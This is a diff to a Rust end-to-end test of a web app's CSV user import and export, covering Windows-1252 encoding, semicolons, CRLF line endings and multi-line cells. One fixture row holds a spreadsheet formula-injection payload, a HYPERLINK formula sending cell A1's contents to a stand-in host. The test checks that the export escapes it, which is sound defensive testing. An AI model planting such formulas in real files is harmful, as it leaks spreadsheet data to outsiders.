@@ -743,12 +743,16 @@ fn users_are_imported_exported_and_the_file_backed_up_and_restored_from_the_app(
          cy,Cy C,cy@example.com,Nobody,\n",
     )
     .unwrap();
-    let mut good = String::from("userName,displayName,email,roles,groups\n");
+    // As a German Excel saves "CSV (Comma delimited)": Windows-1252, ';', CRLF; a cell with
+    // a line break (Alt+Enter) and one a spreadsheet would run.
+    let mut good = b"userName;displayName;email;roles;groups\r\n".to_vec();
     for i in 0..40 {
-        good.push_str(&format!(
-            "user{i:02},User {i},user{i}@example.com,Viewer,Support\n"
-        ));
+        good.extend(format!("user{i:02};User {i};user{i}@example.com;Viewer;Support\r\n").bytes());
     }
+    good.extend(b"jurgen;J\xFCrgen \x84Ops\x93;jurgen@example.com;\"Viewer\nOperator\";\r\n");
+    good.extend(
+        b"eve;\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"click\"\")\";eve@example.com;;\r\n",
+    );
     std::fs::write(folder.join("good.csv"), good).unwrap();
     let set = |app: &App, selector: &str, value: &str| {
         app.script_with(
@@ -791,17 +795,21 @@ fn users_are_imported_exported_and_the_file_backed_up_and_restored_from_the_app(
     app.click("#import-check");
     assert!(app
         .wait_text("#import-ready")
-        .starts_with("40 users are ready"));
+        .starts_with("42 users are ready"));
+    assert_eq!(
+        app.wait_text("#import-note"),
+        "good.csv is not UTF-8: it was read as Windows-1252"
+    );
     set(&app, "#import-form [name=invitesOut]", &path("invites.csv"));
     app.click("#import-confirm");
     assert!(app
         .wait_text("#import-done")
-        .starts_with("Imported 40 users (40 invited)"));
+        .starts_with("Imported 42 users (42 invited)"));
     app.screenshot("import-done");
     app.press(&["\u{E00C}"]);
     app.wait_for_element("#users-table tr[data-user=user07]");
     let invites = std::fs::read_to_string(folder.join("invites.csv")).unwrap();
-    assert_eq!(invites.lines().count(), 41);
+    assert_eq!(invites.lines().count(), 43);
 
     // Export: every user, no secret.
     app.click("#export-users");
@@ -813,6 +821,28 @@ fn users_are_imported_exported_and_the_file_backed_up_and_restored_from_the_app(
     assert!(!exported.contains("$argon2"));
     let code = invites.lines().nth(1).unwrap().split(',').nth(2).unwrap();
     assert!(!exported.contains(code));
+    assert!(exported.contains("\"displayName\": \"Jürgen „Ops“\""));
+
+    // To CSV for Excel: a byte-order mark, CRLF, and the formula behind a '.
+    app.click("#export-users");
+    set(&app, "#export-form [name=path]", &path("all.csv"));
+    app.click("#export-confirm");
+    app.wait_for("return document.querySelector('#export-form') === null");
+    let csv = std::fs::read_to_string(folder.join("all.csv")).unwrap();
+    assert!(
+        csv.starts_with("\u{FEFF}userName,displayName,email,"),
+        "{csv}"
+    );
+    assert!(
+        csv.contains("jurgen,Jürgen „Ops“,jurgen@example.com,INVITED,NATIVE,Operator;Viewer,\r\n"),
+        "{csv}"
+    );
+    assert!(
+        csv.contains(
+            "eve,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"click\"\")\",eve@example.com,"
+        ),
+        "{csv}"
+    );
 
     // Backup, a change, restore: the change is gone and everyone signs in again.
     app.go("#/directory");
